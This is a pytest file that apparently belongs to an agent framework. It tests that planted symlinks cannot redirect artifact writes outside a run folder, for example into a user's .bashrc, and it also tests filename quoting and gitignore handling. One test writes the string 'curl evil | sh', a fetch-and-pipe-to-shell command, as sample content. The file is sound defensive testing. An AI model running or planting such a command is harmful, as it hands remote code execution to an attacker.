"""A run's folder: planted links never lead writes outside."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from goalwright_executor.results.artifacts import Artifacts, make_home
from goalwright_skills.safe_files import UnsafePath
from goalwright_skills.tools.artifacts import Output
from goalwright_skills.tools.disk_use import DiskLimits
from goalwright_skills.tools.envelope import TEXT_LIMIT, Context

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def profile(tmp_path: Path) -> Path:
    path = tmp_path / "home" / ".bashrc"
    path.parent.mkdir()
    path.write_text("mine")
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "workspace").mkdir()
    return tmp_path / "workspace"


def test_planted_link_is_not_followed(workspace: Path, profile: Path) -> None:
    artifacts = Artifacts.of(workspace, "run-1")
    artifacts.folder.mkdir(parents=True)
    (artifacts.folder / "survey.md").symlink_to(profile)

    kept = artifacts.keep("survey.md", "curl evil | sh")

    assert profile.read_text() == "mine"
    assert kept.read_text() == "curl evil | sh"
    assert not kept.is_symlink()


@pytest.mark.parametrize("linked", [".agents", ".agents/runs", ".agents/runs/run-1", ".agents/runs/run-1/artifacts"])
def test_linked_folder_is_refused_by_every_writer(workspace: Path, profile: Path, linked: str) -> None:
    (workspace / linked).parent.mkdir(parents=True, exist_ok=True)
    (workspace / linked).symlink_to(profile.parent)
    artifacts = Artifacts.of(workspace, "run-1")

    with pytest.raises(UnsafePath, match="is a link"):
        artifacts.keep("survey.md", "text")
    with pytest.raises(UnsafePath, match="is a link"):
        Output("word_count", "x" * (TEXT_LIMIT + 1)).envelope(
            Context(str(workspace), {}), artifacts.folder, 0, DiskLimits()
        )
    assert [path.name for path in profile.parent.iterdir()] == [".bashrc"]


@pytest.mark.parametrize("target", [".bashrc", "new"])
def test_linked_gitignore_is_refused(workspace: Path, profile: Path, target: str) -> None:
    (workspace / ".agents").mkdir()
    (workspace / ".agents/.gitignore").symlink_to(profile.parent / target)

    with pytest.raises(UnsafePath, match=r"\.gitignore is a link"):
        make_home(workspace / ".agents")

    assert [path.name for path in profile.parent.iterdir()] == [".bashrc"]


def test_existing_gitignore_is_kept(workspace: Path) -> None:
    make_home(workspace / ".agents")
    assert "/runs/" in (workspace / ".agents/.gitignore").read_text()
    (workspace / ".agents/.gitignore").write_text("mine")

    make_home(workspace / ".agents")

    assert (workspace / ".agents/.gitignore").read_text() == "mine"


def test_file_names_are_quoted_unambiguously(workspace: Path) -> None:
    artifacts = Artifacts.of(workspace, "run-1")
    names = ["a[1]", "a_1_", "a/b", "a%2Fb", "a_b", "übersicht", "a.b", "a" * 200 + "[1]" * 20, "a" * 200 + "[1]" * 21]
    kept = {name: artifacts.keep(f"{name}.md", name) for name in names}
    assert len({path.name for path in kept.values()}) == len(names)
    assert all(path.read_text() == name and path.parent == artifacts.folder for name, path in kept.items())
    assert kept["übersicht"].name == "übersicht.md", "names of planned tasks stay as they are"
    assert kept["a[1]"].name == "a%5B1%5D.md"


def test_long_names_are_shortened_without_collisions(workspace: Path) -> None:
    artifacts = Artifacts.of(workspace, "run-1")
    paths = [artifacts.keep(f"{'ü' * 190}/{ending}.md", ending) for ending in ("a", "b")]
    assert [path.read_text() for path in paths] == ["a", "b"]
    assert all(path.name.endswith(".md") and len(path.name.encode()) <= 255 for path in paths)
